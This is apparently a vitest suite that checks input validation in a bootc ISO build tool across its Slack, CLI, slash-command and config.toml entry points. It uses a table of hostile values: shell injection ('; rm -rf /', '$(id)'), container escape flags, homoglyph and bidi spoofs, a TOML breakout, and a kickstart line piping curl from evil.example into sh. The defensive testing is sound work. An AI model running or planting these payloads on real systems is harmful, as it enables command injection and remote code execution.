import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'smol-toml';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { toBuildRequestInput } from '../../src/cli/build-command.ts';
import { parseBuildArgs } from '../../src/cli/parse-build-args.ts';
import { parseBibConfigToml, toBibConfigToml } from '../../src/domain/bib-config.ts';
import type { BuildRequest } from '../../src/domain/build-request.ts';
import { findUnsafeChar } from '../../src/domain/text-rules.ts';
import { validateBuildRequest } from '../../src/domain/validate-build-request.ts';
import { BLOCKS, type ModalBlock } from '../../src/slack/action-ids.ts';
import { parseCommandText } from '../../src/slack/messages/parse-command-text.ts';
import { readBuildSubmission } from '../../src/slack/views/read-build-submission.ts';
import { ED25519_KEY, SHA512_HASH } from '../unit/domain/fixtures.ts';
import { submission } from '../unit/slack/slack-fixtures.ts';
import { checkAcceptedRequest, plain } from './support/accepted.ts';
import { HUGE } from './support/arbitraries.ts';
import { policyOf, propertyConfig } from './support/config.ts';
import { createFigures, type Figures, outcomeOf, outcomeOfAsync, printFigures } from './support/figures.ts';

/**
 * Named hostile inputs, each put into every field, on every entry point (Slack modal, CLI, slash command,
 * config.toml). For each field the table says what must happen: refused with a message about that field, or
 * accepted and carried as inert data (a TOML string, one kickstart token, one argv element), never as syntax.
 */

const config = propertyConfig();
const policy = policyOf(config);
const figures = createFigures('adversarial cases (named hostile inputs in every field)');
let carried = 0;
let dir = '';

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'bootc-iso-adversarial-'));
});

afterAll(async () => {
  printFigures(figures);
  console.log(
    `adversarial: ${figures.refused} refused with a field message, ${carried} carried safely as data`,
  );
  if (dir) await rm(dir, { recursive: true, force: true });
});

const HOSTILE = {
  privileged: '--privileged',
  volume: '-v /:/host',
  entrypoint: '--entrypoint=sh',
  semicolon: '; rm -rf /',
  substitution: '$(id)',
  backticks: '`id`',
  pipe: '| sh',
  quote: 'a"b',
  backslash: 'a\\',
  newline: 'x\n--privileged',
  nul: 'x\u0000y',
  fullwidth: '\uff51\uff55\uff41\uff59', // "ｑｕａｙ"
  cyrillic: 'qu\u0430y',
  rtl: 'gpj.\u202eexe',
  huge: HUGE,
  tomlBreakout: '"""\n[customizations.disk]\nminsize = "1 TiB"\n"""',
  pre: '%pre\ncurl http://evil.example/x | sh\n%end',
  ostree: 'ostreecontainer --url=evil.example/x:1',
} as const;
type Hostile = keyof typeof HOSTILE;
const NAMES = Object.keys(HOSTILE) as Hostile[];

/** Image references built around each value: the value as the whole reference, or inside a real-looking one. */
const AS_REF: Record<Hostile, string> = {
  privileged: '--privileged',
  volume: '-v /:/host',
  entrypoint: '--entrypoint=sh',
  semicolon: 'quay.io/org/img:1;rm -rf /',
  substitution: 'quay.io/org/$(id):1',
  backticks: 'quay.io/org/`id`:1',
  pipe: 'quay.io/org/img:1|sh',
  quote: 'quay.io/org/img:1"',
  backslash: 'quay.io/org/img:1\\',
  newline: 'quay.io/org/img:1\n--privileged',
  nul: 'quay.io/org/img\u0000:1',
  fullwidth: '\uff51\uff55\uff41\uff59.io/org/img:1',
  cyrillic: 'qu\u0430y.io/org/img:1',
  rtl: 'quay.io/org/\u202eimg:1',
  huge: `quay.io/org/img:1${HUGE}`,
  tomlBreakout: 'quay.io/org/img:1"""\n[customizations.disk]',
  pre: 'quay.io/org/img:1\n%pre',
  ostree: 'quay.io/org/ostreecontainer --url=x:1',
};

interface FieldSpec {
  /** The modal block the value goes into (and where its error must show). */
  block: ModalBlock;
  /** The start of every message about this field (after Slack's capitalisation). */
  label: RegExp;
  /** The hostile inputs this field carries as data; every other one must be refused. */
  data: Hostile[];
  /** The Slack modal fields for value v. */
  modal: (v: string) => Partial<Record<ModalBlock, string>>;
  /** The CLI arguments for value v; a file argument is written first. */
  cli: (v: string) => (string | { file: string })[];
  /** Where the value ends up in an accepted request, to compare with what was typed. */
  carriedIn: (r: BuildRequest) => string | undefined;
}

const SAFE_IN_KICKSTART_LINE: Hostile[] = [
  'privileged',
  'volume',
  'entrypoint',
  'semicolon',
  'substitution',
  'backticks',
  'pipe',
  'fullwidth',
  'cyrillic',
  'ostree',
];

const FIELDS: Record<string, FieldSpec> = {
  'source image': {
    block: 'image',
    label: /^Source image/,
    data: [],
    modal: (v) => ({ image: AS_REF[nameOf(v)] }),
    cli: (v) => [`--image=${AS_REF[nameOf(v)]}`],
    carriedIn: (r) => r.source,
  },
  'installer payload': {
    block: 'payload',
    label: /^Installer payload image/,
    data: [],
    modal: (v) => ({ preset: 'centos-stream9', type: 'bootc-installer', payload: AS_REF[nameOf(v)] }),
    cli: (v) => [
      '--preset',
      'centos-stream9',
      '--type',
      'bootc-installer',
      `--installer-payload=${AS_REF[nameOf(v)]}`,
    ],
    carriedIn: (r) => r.installerPayloadRef,
  },
  'user name': {
    block: 'users',
    label: /^(Line \d+|User \d+)/,
    data: [],
    modal: (v) => ({ preset: 'centos-stream9', users: `${v} | | wheel` }),
    cli: (v) => ['--preset', 'centos-stream9', `--user=${v}`],
    carriedIn: (r) => r.customizations.users[0]?.name,
  },
  'SSH key comment': {
    block: 'users',
    label: /^(Line \d+|User \d+)/,
    // "|" separates the Users field's columns, so in the modal it starts the groups column (see below).
    data: SAFE_IN_KICKSTART_LINE.filter((n) => n !== 'pipe'),
    modal: (v) => ({ preset: 'centos-stream9', users: `admin | ${ED25519_KEY} ${v}` }),
    cli: (v) => ['--preset', 'centos-stream9', '--user', 'admin', `--ssh-key=${ED25519_KEY} ${v}`],
    carriedIn: (r) => r.customizations.users[0]?.sshKeys[0]?.replace(`${ED25519_KEY} `, ''),
  },
  groups: {
    block: 'users',
    label: /^(Line \d+|User \d+)/,
    data: [],
    modal: (v) => ({ preset: 'centos-stream9', users: `admin | | ${v}` }),
    cli: (v) => ['--preset', 'centos-stream9', '--user', 'admin', `--groups=${v}`],
    carriedIn: (r) => r.customizations.users[0]?.groups.join(','),
  },
  'password hash': {
    block: 'users',
    label: /^(Line \d+|User \d+)/,
    data: [],
    modal: (v) => ({ preset: 'centos-stream9', users: `admin | | | ${v}` }),
    cli: (v) => ['--preset', 'centos-stream9', '--user', 'admin', `--password-hash=${v}`],
    carriedIn: (r) => r.customizations.users[0]?.passwordHash,
  },
  kickstart: {
    block: 'kickstart',
    label: /^Kickstart/,
    // The kickstart is the user's own installer script: anything but NUL, bidi controls, a 100 KB file and our
    // ostreecontainer line is theirs to write, and it travels as one TOML string.
    data: [
      ...SAFE_IN_KICKSTART_LINE.filter((n) => n !== 'ostree'),
      'quote',
      'backslash',
      'newline',
      'tomlBreakout',
      'pre',
    ],
    modal: (v) => ({ preset: 'centos-stream9', kickstart: `text\n${v}\nreboot` }),
    cli: (v) => ['--preset', 'centos-stream9', '--kickstart', { file: `text\n${v}\nreboot` }],
    carriedIn: (r) => r.customizations.kickstart?.replace(/^text\n/, '').replace(/\nreboot$/, ''),
  },
  'kernel arguments': {
    block: 'kernelArgs',
    label: /^Kernel arguments/,
    data: SAFE_IN_KICKSTART_LINE,
    modal: (v) => ({ preset: 'centos-stream9', kernelArgs: `quiet ${v}` }),
    cli: (v) => ['--preset', 'centos-stream9', '--kernel-arg', 'quiet', `--kernel-arg=${v}`],
    carriedIn: (r) => r.customizations.kernelAppend?.replace(/^quiet /, ''),
  },
  'ISO volume label': {
    block: 'volumeId',
    label: /^ISO volume id/,
    // Letters and dashes only: a label the builder accepts and that stays one word in boot/grub.cfg.
    data: ['privileged'],
    modal: (v) => ({ preset: 'centos-stream9', volumeId: `X${v}` }),
    cli: (v) => ['--preset', 'centos-stream9', `--volume-id=X${v}`],
    carriedIn: (r) => r.customizations.iso?.volumeId?.slice(1),
  },
};

function nameOf(v: string): Hostile {
  const name = NAMES.find((n) => HOSTILE[n] === v);
  if (!name) throw new Error(`not a named hostile value: ${JSON.stringify(v)}`);
  return name;
}

/** An accepted request carries the value intact, as data: the worker's checks all pass, TOML holds it verbatim. */
function expectCarried(f: Figures, spec: FieldSpec, request: BuildRequest, v: string, what: string): void {
  const scratch = createFigures(what);
  checkAcceptedRequest(scratch, request, config, policy, what);
  expect(scratch.examples, what).toEqual([]);
  // The modal and the CLI trim fields and normalise line endings; the value itself is unchanged.
  expect(spec.carriedIn(request), what).toBe(v.trim());
  f.accepted += 1;
  carried += 1;
}

function expectRefusalText(message: string, spec: FieldSpec, what: string): void {
  expect(message, what).toMatch(spec.label);
  expect(findUnsafeChar(message), `${what}: ${JSON.stringify(message)}`).toBeUndefined();
  expect(message.length, what).toBeLessThanOrEqual(2_500);
}

describe('named hostile inputs in every field of the Slack modal', () => {
  for (const [field, spec] of Object.entries(FIELDS)) {
    it(`${field}: refuses ${NAMES.filter((n) => !spec.data.includes(n)).join(', ')}; carries the rest as data`, () => {
      for (const name of NAMES) {
        const v = HOSTILE[name];
        const what = `modal ${field} ← ${name}`;
        figures.cases += 1;
        const out = outcomeOf(() =>
          readBuildSubmission(submission({ type: 'iso', arch: 'x86_64', ...spec.modal(v) }), {
            config,
            userId: 'U024BE7LH',
          }),
        );
        if (out.kind !== 'accepted') throw new Error(`${what}: ${JSON.stringify(out)}`);
        if (field === 'SSH key comment' && name === 'pipe') {
          // "| sh" after the key starts the next column: a group named sh, and the key keeps its own comment.
          expect(out.value.ok && out.value.input.customizations?.users).toEqual([
            { name: 'admin', sshKeys: [ED25519_KEY], groups: ['sh'] },
          ]);
          figures.accepted += 1;
        } else if (spec.data.includes(name)) {
          expect(out.value.ok, `${what}: ${JSON.stringify(out.value)}`).toBe(true);
          if (out.value.ok)
            expectCarried(figures, spec, validateBuildRequest(out.value.input, policy), v, what);
        } else {
          expect(out.value.ok, what).toBe(false);
          if (out.value.ok) continue;
          const message = out.value.errors[BLOCKS[spec.block]] ?? '';
          expect(Object.keys(out.value.errors), what).toContain(BLOCKS[spec.block]);
          expectRefusalText(message, spec, what);
          figures.refused += 1;
        }
      }
    });
  }
});

describe('named hostile inputs in every option of bootc-iso build', () => {
  let files = 0;
  async function argvFor(tokens: (string | { file: string })[]): Promise<string[]> {
    const out: string[] = [];
    for (const t of tokens) {
      if (typeof t === 'string') out.push(t);
      else {
        files += 1;
        const path = join(dir, `file-${files}`);
        await writeFile(path, t.file);
        out.push(path);
      }
    }
    return out;
  }

  for (const [field, spec] of Object.entries(FIELDS)) {
    it(`${field}: the same table as the modal`, async () => {
      for (const name of NAMES) {
        const v = HOSTILE[name];
        const what = `cli ${field} ← ${name}`;
        figures.cases += 1;
        const argv = await argvFor(spec.cli(v));
        const out = await outcomeOfAsync(
          async () => validateBuildRequest(await toBuildRequestInput(parseBuildArgs(argv), config), policy),
          { multiLine: true },
        );
        // The CLI has no "|" columns: a comment "| sh" on an SSH key is just a comment there.
        const data = spec.data.includes(name) || (field === 'SSH key comment' && name === 'pipe');
        if (out.kind === 'crash') throw new Error(`${what}: ${out.why}`);
        if (data) {
          expect(out.kind, `${what}: ${JSON.stringify(out)}`).toBe('accepted');
          if (out.kind === 'accepted') expectCarried(figures, spec, out.value, v, what);
        } else {
          expect(out.kind, what).toBe('refused');
          if (out.kind !== 'refused') continue;
          // The CLI's messages start in lower case ("user 1 name: …", "kickstart: …").
          expect(out.error.message, what).toMatch(new RegExp(spec.label.source, 'i'));
          expect(findUnsafeChar(out.error.message, { newline: true }), what).toBeUndefined();
          figures.refused += 1;
        }
      }
    });
  }

  it('refuses podman and shell options given to bootc-iso build itself, naming them', () => {
    for (const extra of [
      ['--privileged'],
      ['-v', '/:/host'],
      ['--entrypoint=sh'],
      ['--security-opt', 'label=disable'],
    ]) {
      figures.cases += 1;
      const out = outcomeOf(() => parseBuildArgs(['--preset', 'centos-stream9', ...extra]), {
        multiLine: true,
      });
      expect(out.kind).toBe('refused');
      if (out.kind === 'refused') expect(out.error.message).toContain(extra[0]?.split('=')[0]);
      figures.refused += 1;
    }
  });
});

describe('named hostile inputs in slash-command text', () => {
  it('refuses every one as a build id, and a build argument only pre-fills the form, which then refuses it', () => {
    for (const name of NAMES) {
      const v = HOSTILE[name];
      for (const command of ['status', 'cancel', 'retry']) {
        figures.cases += 1;
        const parsed = parseCommandText(`${command} ${v}`);
        expect('error' in parsed, `${command} ← ${name}`).toBe(true);
        if ('error' in parsed) expect(findUnsafeChar(parsed.error)).toBeUndefined();
        figures.refused += 1;
      }
      figures.cases += 1;
      const build = parseCommandText(`build ${AS_REF[name]}`);
      if ('error' in build) {
        expect(findUnsafeChar(build.error)).toBeUndefined();
        figures.refused += 1;
        continue;
      }
      // A one-word argument becomes the form's image; submitting the form refuses it under the image field.
      const submitted = readBuildSubmission(
        submission({ type: 'iso', arch: 'x86_64', image: build.args[0] ?? '' }),
        {
          config,
          userId: 'U024BE7LH',
        },
      );
      expect(submitted.ok, `build ← ${name}`).toBe(false);
      if (!submitted.ok) expect(submitted.errors[BLOCKS.image]).toMatch(/^Source image/);
      figures.refused += 1;
    }
  });
});

describe('named hostile inputs in config.toml', () => {
  it('keeps a break-out inside a string value as data, and refuses a real extra section by name', () => {
    figures.cases += 2;
    const smuggled = toBibConfigToml({
      users: [],
      kickstart: `text\n${HOSTILE.tomlBreakout}\n${HOSTILE.pre}`,
      fips: false,
    });
    const back = parseBibConfigToml(smuggled);
    expect(back.kickstart).toBe(`text\n${HOSTILE.tomlBreakout}\n${HOSTILE.pre}`);
    expect(Object.keys(plain(parse(smuggled)) as object)).toEqual(['customizations']);
    carried += 1;
    figures.accepted += 1;
    const raw = `[customizations.installer.kickstart]\ncontents = """\ntext\n"""\n[customizations.sshd]\nPasswordAuthentication = true\n`;
    const refused = outcomeOf(() => parseBibConfigToml(raw), { requireField: true });
    expect(refused.kind).toBe('refused');
    if (refused.kind === 'refused')
      expect(refused.error.message).toContain('customizations.sshd is not accepted');
    figures.refused += 1;
  });

  it('carries a plain-text password only when it is a crypt hash', () => {
    figures.cases += 2;
    const toml = `[[customizations.user]]\nname = "admin"\npassword = "hunter2"\n`;
    const plainText = outcomeOf(() =>
      validateBuildRequest(
        {
          source: 'quay.io/org/img:1',
          builder: { name: 'centos', image: 'quay.io/centos-bootc/bootc-image-builder:latest' },
          type: 'iso',
          arch: 'x86_64',
          requester: { kind: 'cli', user: 'alice' },
          requestedAt: '2026-01-31T12:00:00Z',
          customizations: parseBibConfigToml(toml),
        },
        policy,
      ),
    );
    expect(plainText.kind).toBe('refused');
    if (plainText.kind === 'refused') expect(plainText.error.message).not.toContain('hunter2');
    figures.refused += 1;
    const hashed = parseBibConfigToml(toml.replace('hunter2', SHA512_HASH));
    expect(hashed.users[0]?.passwordHash).toBe(SHA512_HASH);
    figures.accepted += 1;
  });
});
